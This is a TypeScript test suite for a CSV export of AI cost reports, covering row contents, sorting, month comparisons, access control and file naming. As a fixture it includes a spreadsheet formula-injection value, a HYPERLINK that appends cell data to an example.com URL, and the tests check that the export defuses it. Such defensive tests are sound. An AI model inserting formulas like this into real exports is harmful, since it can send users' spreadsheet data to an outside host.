import { contextOf, insertFixture, NOW, recordCharges } from "@ai-cost/api/testing/fixtures";
import { newId } from "@ai-cost/db";
import { testDatabase } from "@ai-cost/db/testing";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, test } from "vitest";
import { exportResponse } from "./export-response";

const { app, db, tenantOf } = testDatabase();
let fixture: Awaited<ReturnType<typeof insertFixture>>;

const FORMULA = '=HYPERLINK("https://example.com?"&A1)';

beforeAll(async () => {
  fixture = await insertFixture(db);
  await recordCharges(tenantOf, fixture.projectId, [
    { at: "2026-11-02T10:00:00Z", agentType: "research", amountMicroUsd: 3_000_001n, model: "a" },
    { at: "2026-11-15T10:00:00Z", agentType: "research", amountMicroUsd: 1_000_000n, model: "b" },
    { at: "2026-11-03T10:00:00Z", agentType: FORMULA, amountMicroUsd: 10n, model: "b, c" },
    { at: "2026-11-04T10:00:00Z", agentType: "testing", amountMicroUsd: null, model: null },
    { at: "2026-10-02T10:00:00Z", agentType: "research", amountMicroUsd: 2_000_000n, model: "a" },
    { at: "2026-10-20T10:00:00Z", agentType: "release", amountMicroUsd: 7_000_000n, model: "a" },
  ]);
  await recordCharges(tenantOf, fixture.foreignProjectId, [
    { at: "2026-11-02T10:00:00Z", agentType: "of a stranger", amountMicroUsd: 9_000_000n },
  ]);
});

const get = (query: string, user: keyof typeof fixture | null = "member", projectId?: string) => {
  const person = user === null ? null : fixture[user];
  if (typeof person === "string") throw new Error(`${user} is not a person`);
  return exportResponse(
    contextOf(app.db, person, NOW),
    projectId ?? fixture.projectId,
    new URLSearchParams(query),
  );
};

async function rowsOf(query: string): Promise<Record<string, string>[]> {
  const response = await get(query);
  expect(response.status).toBe(200);
  return parse(await response.text(), { columns: true, record_delimiter: "\r\n" });
}

const pick = (rows: Record<string, string>[], ...names: string[]) =>
  rows.map((row) => names.map((name) => row[name]).join(" "));

describe("by agent type", () => {
  test("has the rows of the page in its order, with exact amounts, shares and changes", async () => {
    const rows = await rowsOf("table=agents&compare=off");
    expect(pick(rows, "agent_type", "jobs", "cost_usd", "unpriced_calls")).toEqual([
      "research 2 4.000001 0",
      `'${FORMULA} 1 0.00001 0`,
      "testing 1  1",
    ]);
    expect(Object.keys(rows[0] ?? {})).not.toContain("change_usd");
  });

  test("compares complete days, and has a row for a type that only the other month has", async () => {
    const rows = await rowsOf("table=agents");
    expect(
      pick(rows, "agent_type", "compared_cost_usd", "previous_cost_usd", "change_usd"),
    ).toEqual(["research 3.000001 2 1.000001", `'${FORMULA} 0.00001 0 0.00001`, "testing 0 0 0"]);
    const october = await rowsOf("table=agents&month=2026-10");
    expect(pick(october, "agent_type", "cost_usd")).toEqual(["release 7", "research 2"]);
  });

  test.each([
    ["sort=name.descending", ["testing", "research", `'${FORMULA}`]],
    ["sort=cost.ascending", [`'${FORMULA}`, "research", "testing"]],
    ["sort=nothing.ascending", ["research", `'${FORMULA}`, "testing"]],
    ["agent=testing&agent=research", ["research", "testing"]],
    ["model=a", ["research"]],
    ["month=2026-09", []],
  ])("with %s it has what the page shows", async (query, names) => {
    const rows = await rowsOf(`table=agents&compare=off&${query}`);
    expect(pick(rows, "agent_type")).toEqual(names);
  });
});

test("by model it has calls, and a model whose name has a comma", async () => {
  const rows = await rowsOf("table=models&compare=off");
  expect(pick(rows, "model", "calls", "cost_usd")).toEqual([
    "a 1 3.000001",
    "b 1 1",
    "b, c 1 0.00001",
    "unknown 1 ",
  ]);
});

test("the trend has six months, and a change only between months that are over", async () => {
  const rows = await rowsOf("table=trend");
  expect(pick(rows, "month", "cost_usd", "change_usd")).toEqual([
    "2026-06 0 ",
    "2026-07 0 0",
    "2026-08 0 0",
    "2026-09 0 0",
    "2026-10 9 9",
    "2026-11 4.000011 ",
  ]);
});

test("the days are those of the chart up to today, divided as the chart is", async () => {
  const days = await rowsOf("table=daily&by=total");
  expect(days).toHaveLength(15);
  expect(pick(days.slice(1, 4), "day", "cost_usd", "unpriced_calls")).toEqual([
    "2026-11-02 3.000001 0",
    "2026-11-03 0.00001 0",
    "2026-11-04  1",
  ]);
  const byAgent = await rowsOf("table=daily&by=agent&range=7d");
  expect(pick(byAgent, "day", "agent_type", "cost_usd")).toEqual(["2026-11-15 research 1"]);
});

test("the runs are the most expensive ones of the month", async () => {
  const rows = await rowsOf("table=pipelines");
  expect(pick(rows, "cost_usd")).toEqual(["3.000001", "1", "0.00001"]);
});

test("the charges are those of the month, newest first", async () => {
  await recordCharges(
    tenantOf,
    fixture.projectId,
    Array.from({ length: 120 }, () => ({ at: "2020-01-01T00:00:00Z", agentType: "old" })),
  );
  const old = await rowsOf("table=recent&month=2020-01");
  expect(new Set(pick(old, "charge_id")).size).toBe(120);
  const rows = await rowsOf("table=recent");
  expect(pick(rows, "occurred_at", "agent_type", "cost_usd")).toEqual([
    "2026-11-15T10:00:00.000Z research 1",
    "2026-11-04T10:00:00.000Z testing ",
    `2026-11-03T10:00:00.000Z '${FORMULA} 0.00001`,
    "2026-11-02T10:00:00.000Z research 3.000001",
  ]);
  expect(pick(await rowsOf("table=recent&agent=research"), "cost_usd")).toEqual(["1", "3.000001"]);
});

describe("who may export", () => {
  test.each(["owner", "admin", "member"] as const)("an %s", async (user) => {
    expect((await get("table=agents", user)).status).toBe(200);
  });

  test("a stranger gets the answer of a product that does not exist, on every table", async () => {
    for (const table of ["agents", "models", "trend", "daily", "pipelines", "recent", "nothing"]) {
      const foreign = await get(`table=${table}`, "stranger");
      const random = await get(`table=${table}`, "stranger", newId());
      const malformed = await get(`table=${table}`, "stranger", "nothing");
      const answers = await Promise.all(
        [foreign, random, malformed].map(async (answer) => [
          answer.status,
          [...answer.headers],
          await answer.text(),
        ]),
      );
      expect(answers[0]?.[0]).toBe(404);
      expect(answers[1]).toEqual(answers[0]);
      expect(answers[2]).toEqual(answers[0]);
    }
  });

  test("nobody without a session", async () => {
    expect((await get("table=agents", null)).status).toBe(401);
  });

  test("an unknown table is named to a member", async () => {
    const response = await get("table=passwords");
    expect([response.status, await response.text()]).toEqual([
      400,
      "The parameter table must name a table of the page.\n",
    ]);
  });
});

test("the file is named after the product, the table and the month, in every alphabet", async () => {
  const response = await get("table=agents&month=2026-10");
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
  expect(response.headers.get("content-disposition")).toBe(
    `attachment; filename="Atlas agents 2026-10.csv"; filename*=UTF-8''Atlas%20agents%202026-10.csv`,
  );
});
